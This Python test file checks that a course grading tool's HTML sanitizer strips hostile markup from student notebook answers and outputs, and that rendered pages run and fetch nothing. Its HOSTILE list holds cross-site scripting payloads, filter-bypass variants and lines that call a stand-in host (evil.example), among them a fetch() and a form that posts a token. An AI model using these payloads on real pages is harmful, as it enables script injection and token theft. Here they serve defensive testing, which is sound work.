"""What students wrote does nothing in anybody's browser."""

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from dlcourse.grading.course import settings
from dlcourse.grading.feedback import still
from dlcourse.grading.harmless import html

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
HOSTILE = [
    "<script>fetch('https://evil.example')</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/seen.png>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<p onclick=alert(1) onmouseover='alert(2)'>text</p>",
    "<a href='javascript:alert(1)'>go</a>",
    "<a href=' JaVa\tScRiPt:alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<a href='/formgrader/api/grade'>go</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=token><button>Full marks</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; .score { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>27 of 27</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></p></noscript>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "</body></html><script>alert(1)</script>",
]
FORBIDDEN = (
    "<script",
    "onerror",
    "onload=",
    "onclick",
    "javascript:",
    "<iframe",
    "<form",
    "<input",
)
FORBIDDEN += (
    "src=http",
    'src="http',
    "<svg",
    "<style",
    "position",
    "url(",
    "<meta",
    "<base",
    "/api/",
)
FORBIDDEN += ("<link", "<object", "<embed", "<video", "data:text", "svg+xml", "srcdoc")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_that_could_run_or_be_fetched(text):
    left = html(text)
    assert not [word for word in FORBIDDEN if word in left], left
    assert html(left) == left


def test_what_is_harmless_stays():
    for text in (
        '<h3 id="a">Why</h3><p>Because <b>a &lt; b</b>, <code>x</code>.</p>',
        "<table><thead><tr><th>n</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
        "<details><summary>More</summary>text</details>",
        f'<img src="data:image/png;base64,{PNG}" alt="a plot">',
        '<div class="dl-check" style="border-left:4px solid #1a7f4b;padding:0.3em">right</div>',
    ):
        assert html(text) == text
    assert 'href="https://example.org/paper"' in html('<a href="https://example.org/paper">p</a>')


@pytest.fixture
def pages(home):
    """A notebook with all of it, in answers and in outputs, as nbgrader's settings export it."""
    config = settings(home)
    cells = [new_markdown_cell(f"An answer.\n\n{text}\n\n**End.**") for text in HOSTILE]
    for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown"):
        outputs = [new_output("display_data", data={kind: text}) for text in HOSTILE]
        cells.append(new_code_cell("show()", outputs=outputs))
    streams = [new_output("stream", text=text) for text in HOSTILE]
    cells.append(new_code_cell("print()", outputs=streams))
    return HTMLExporter(config=config, template_name="classic").from_notebook_node(
        new_notebook(cells=cells)
    )[0]


def test_neither_in_answers_nor_in_outputs(pages):
    body = still(pages).partition("<body")[2]
    assert body.count("<strong>End.</strong>") == len(HOSTILE)
    for word in ("<script", "<iframe", "<form", "<svg", 'src="http', "<object", "<video"):
        assert word not in body, body[body.index(word) - 300 :][:600]


def test_a_page_fetches_nothing_and_says_so_to_the_browser(pages):
    head = still(pages).partition("</head>")[0]
    assert "<script" in pages.partition("</head>")[0] and "<script" not in head
    assert "Content-Security-Policy" in head and "default-src 'none'" in head


def test_a_picture_in_an_answer_is_shown(home):
    answer = new_markdown_cell("![on paper](attachment:page.png)")
    answer["attachments"] = {"page.png": {"image/png": PNG}}
    exporter = HTMLExporter(config=settings(home), template_name="classic")
    page = exporter.from_notebook_node(new_notebook(cells=[answer]))[0]
    assert f'src="data:image/png;base64,{PNG}"' in page
    nbformat.validate(new_notebook(cells=[answer]))


@pytest.mark.browser
def test_a_browser_runs_nothing_of_it_and_asks_for_nothing(pages, page, tmp_path):
    marked = still(pages).replace("</body>", "<script>document.title = 'it ran'</script></body>")
    (tmp_path / "page.html").write_text(marked)
    asked, said = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: said.append(dialog.message) or dialog.dismiss())
    page.goto(f"file://{tmp_path}/page.html")
    page.wait_for_timeout(300)
    assert not said and asked and not [url for url in asked if url.startswith("http")]
    assert page.title() != "it ran" and "An answer." in page.inner_text("body")
